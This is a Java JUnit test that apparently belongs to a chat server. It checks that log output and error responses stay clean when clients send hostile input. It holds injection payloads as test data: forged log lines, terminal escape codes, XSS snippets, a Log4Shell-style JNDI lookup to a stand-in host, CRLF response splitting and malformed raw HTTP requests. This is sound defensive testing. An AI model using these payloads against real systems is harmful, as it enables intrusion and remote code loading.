package dev.parley.adapters.web;

import static org.assertj.core.api.Assertions.assertThat;

import dev.parley.access.Permission;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import tools.jackson.databind.json.JsonMapper;

@ExtendWith(OutputCaptureExtension.class)
class LogsTest {

    private static final List<String> ATTACKS = List.of(
            "x\n2031-01-01 INFO granted admin",
            "\u001b[2K\u001b[1Aowned",
            "<img src=x onerror=document.title='owned'>",
            "\"><svg onload=owned()>",
            "\u202Edenwo",
            "${jndi:ldap://owned.example/a}",
            "\r\n\r\nHTTP/1.1 200 owned");

    @Test
    void whatClientsSendIsKeptIntactAndReachesNoLogLine(CapturedOutput output) {
        try (var server = TestServer.dev()) {
            String before = output.getAll();
            for (String attack : ATTACKS) {
                everywhere(server, attack);
            }
            String logged = output.getAll().substring(before.length());
            assertThat(logged).doesNotContain("owned", "granted", "denwo", "\u001b", "\u202E", "jndi");
            assertThat(logged.lines()).isEmpty();
        }
    }

    @Test
    void whatIsNoHttpReachesNoLogLineEither(CapturedOutput output) throws IOException {
        try (var server = TestServer.dev()) {
            String before = output.getAll();
            for (String request : List.of(
                    "owned\r\n\r\n",
                    "GET /owned|\u001b[2K HTTP/1.1\r\nHost: localhost\r\n\r\n",
                    "GET / HTTP/1.1\r\nHost: owned.example\r\nowned owned: x\r\n\r\n",
                    "GET / HTTP/owned\r\nHost: localhost\r\n\r\n",
                    "POST /v1/dev/tokens HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                            + "Transfer-Encoding: chunked\r\n\r\n5\r\nowned\r\nowned\r\n\r\n")) {
                try (var socket = new Socket("127.0.0.1", server.port())) {
                    socket.setSoTimeout(20_000);
                    socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
                    String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
                    assertThat(answer)
                            .startsWith("HTTP/1.1 400 ")
                            .contains("problem+json")
                            .doesNotContain("owned");
                }
            }
            assertThat(output.getAll().substring(before.length())).doesNotContain("owned", "\u001b");
        }
    }

    private static void everywhere(TestServer server, String attack) {
        String json = JsonMapper.shared().writeValueAsString(attack);
        String token = server.token("eve", attack, false, Map.of("*", EnumSet.allOf(Permission.class)));
        var event = server.post(token, "/v1/rooms/attacked/messages", "{\"data\":{\"text\":" + json + "}}");
        assertThat(event.json().get("senderName").asString()).isEqualTo(attack);
        assertThat(event.json().at("/data/text").asString()).isEqualTo(attack);
        var room = server.send("PUT", token, "/v1/rooms/titled", "{\"title\":" + json + "}");
        assertThat(room.json().get("title").asString()).isEqualTo(attack);
        var id = server.post(token, "/v1/rooms/attacked/messages", "{\"data\":1,\"clientMsgId\":" + json + "}");
        if (id.status() == 201) {
            assertThat(id.json().get("clientMsgId").asString()).isEqualTo(attack);
        } else {
            assertThat(id.response().body()).doesNotContain("owned");
        }
        for (String body : List.of(
                json, "{" + json + ":1}", attack, "{\"data\":" + attack + "}", "{\"type\":" + json + ",\"data\":1}")) {
            assertThat(server.post(token, "/v1/rooms/attacked/messages", body)
                            .response()
                            .body())
                    .doesNotContain("owned", "granted");
        }
        String encoded =
                java.net.URLEncoder.encode(attack, StandardCharsets.UTF_8).replace("+", "%20");
        for (String path : List.of(
                "/v1/rooms/" + encoded,
                "/" + encoded,
                "/v1/rooms/attacked/messages?after=" + encoded,
                "/v1/rooms/attacked/messages?" + encoded + "=1",
                "/problems/" + encoded)) {
            var answer = server.get(token, path);
            assertThat(answer.status()).isBetween(400, 499);
            assertThat(answer.response().body()).doesNotContain("owned", "granted", "denwo", "%0");
        }
        String header = attack.replaceAll("[\r\n\u001b\u202E]", "");
        assertThat(server.get(
                                token,
                                "/v1/rooms/attacked",
                                "traceparent",
                                header,
                                "Accept",
                                header,
                                "If-None-Match",
                                header)
                        .response()
                        .body())
                .doesNotContain("owned");
        assertThat(server.get(header.replace(' ', '.'), "/v1/rooms/attacked")
                        .response()
                        .body())
                .doesNotContain("owned");
    }
}
